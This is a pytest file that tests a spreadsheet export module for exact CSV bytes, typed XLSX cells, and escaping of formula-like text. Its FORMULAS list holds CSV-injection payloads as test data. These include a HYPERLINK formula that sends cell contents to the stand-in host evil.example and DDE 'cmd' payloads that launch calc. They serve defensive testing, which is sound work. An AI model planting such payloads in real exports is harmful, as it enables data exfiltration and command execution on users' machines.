"""Tables as files: exact bytes of CSV, typed cells of XLSX, and nothing that becomes a formula (proof 31)."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.sheets import csv_chunks, xlsx_chunks

HEADS = ("Name", "ARR, EUR", "Seats", "Since", "At")
ROWS = [
    ["Ääkkönen, Oy", Decimal("123456.00"), 12, date(2026, 9, 17), datetime(2026, 9, 17, 11, 0)],
    ['A "quoted" name\nof two lines', Decimal("-5.25"), -3, None, None],
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]
NUMBERS = ["-5", "-5.25", "+358 40 1234567", "-1,234.50", "−5"]


def csv_of(heads, rows):
    return b"".join(csv_chunks(heads, rows)).decode()


def sheet_of(heads, rows, title="Accounts"):
    return load_workbook(io.BytesIO(b"".join(xlsx_chunks(heads, rows, title=title)))).active


def test_csv_to_the_byte():
    assert csv_of(HEADS, ROWS) == (
        '\ufeff"Name","ARR, EUR","Seats","Since","At"\r\n'
        '"Ääkkönen, Oy",123456.00,12,"2026-09-17","2026-09-17 11:00:00"\r\n'
        '"A ""quoted"" name\nof two lines",-5.25,-3,"",""\r\n'
    )


def test_xlsx_has_typed_cells():
    sheet = sheet_of(HEADS, ROWS)

    assert sheet.title == "Accounts"
    assert sheet.freeze_panes == "B2"
    assert [[cell.value for cell in row] for row in sheet.rows] == [
        list(HEADS),
        ["Ääkkönen, Oy", 123456, 12, datetime(2026, 9, 17), datetime(2026, 9, 17, 11, 0)],
        ['A "quoted" name\nof two lines', -5.25, -3, None, None],
    ]
    assert [cell.data_type for cell in sheet[2]] == ["s", "n", "n", "d", "d"]
    assert [cell.number_format for cell in sheet[2]] == [
        "General", "#,##0.00", "General", "yyyy-mm-dd", "yyyy-mm-dd hh:mm",
    ]  # fmt: skip
    assert [cell.font.bold for cell in sheet[1]] == [True] * 5


@pytest.mark.parametrize("words", FORMULAS)
def test_words_that_begin_like_a_formula_are_words(words):
    heads, rows = [words], [[words]]

    table = list(csv.reader(io.StringIO(csv_of(heads, rows).removeprefix("\ufeff"), newline="")))
    sheet = sheet_of(heads, rows)

    assert table == [[f"'{words}"], [f"'{words}"]]
    assert [cell.data_type for (cell,) in sheet.rows] == ["s", "s"]
    assert all(cell.value.startswith("'") for (cell,) in sheet.rows)


def test_a_separator_that_is_not_ours_opens_no_cell():
    """Where commas are decimals, spreadsheets part at semicolons: quotes keep the words together."""
    text = csv_of(["Name"], [["x;=1+1"]])
    assert list(csv.reader([text.split("\r\n")[1]], delimiter=";")) == [["x;=1+1"]]


@pytest.mark.parametrize("words", NUMBERS)
def test_signed_numbers_stay_what_they_are(words):
    assert csv_of(["N"], [[words]]) == f'\ufeff"N"\r\n"{words}"\r\n'


def test_negative_amounts_stay_numbers():
    rows = [[Decimal("-1234.50"), -7]]
    assert csv_of(["Amount", "Count"], rows) == '\ufeff"Amount","Count"\r\n-1234.50,-7\r\n'
    assert [(c.data_type, c.value) for c in sheet_of(["A", "B"], rows)[2]] == [("n", -1234.5), ("n", -7)]


def test_what_no_sheet_can_hold_is_left_out():
    sheet = sheet_of(["Name"], [["a\x00b\x1fc"], ["#REF!"], ["x" * 40_000]], title="[A/B]:?*" * 9)

    assert [cell.value for (cell,) in sheet.rows][1:3] == ["abc", "#REF!"]
    assert len(sheet["A4"].value) == 32_767
    assert sheet["A3"].data_type == "s"
    assert len(sheet.title) <= 31
